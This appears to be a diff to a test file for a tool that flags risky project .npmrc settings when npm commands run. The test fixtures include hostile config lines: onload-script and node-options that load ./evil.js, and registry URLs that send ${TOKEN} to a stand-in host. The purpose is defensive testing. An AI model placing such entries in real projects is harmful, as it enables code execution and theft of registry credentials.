@@ -35,8 +35,8 @@ describe('a program that a project brings along is asked about', () => {
     ['npm ls', '.npmrc', 'onload-script=./evil.js\n', 'onload-script'],
     ['npm ls', '.npmrc', 'logs-dir=src\n', 'logs-dir'],
     ['npm run', '.npmrc', 'cache = ./x\n', 'cache'],
-    ['npm pkg get name', '.npmrc', 'registry=http://host.example/${TOKEN}\n', 'registry'],
-    ['npm ls', '.npmrc', '@a:registry=http://host.example/${TOKEN}\n', 'registry'],
+    ['npm pkg get name', '.npmrc', 'registry=${SCHEME}://host.example/${TOKEN}\n', 'registry'],
+    ['npm ls', '.npmrc', '@a:registry=${SCHEME}://host.example/${TOKEN}\n', 'registry'],
     ['npm --version', '.npmrc', 'a=b\nnode-options = --require=./evil.js\n', 'node-options'],
   ])('%s, by %s: %j [P4]', async (command, path, text, key) => {
     place.put(path, text);
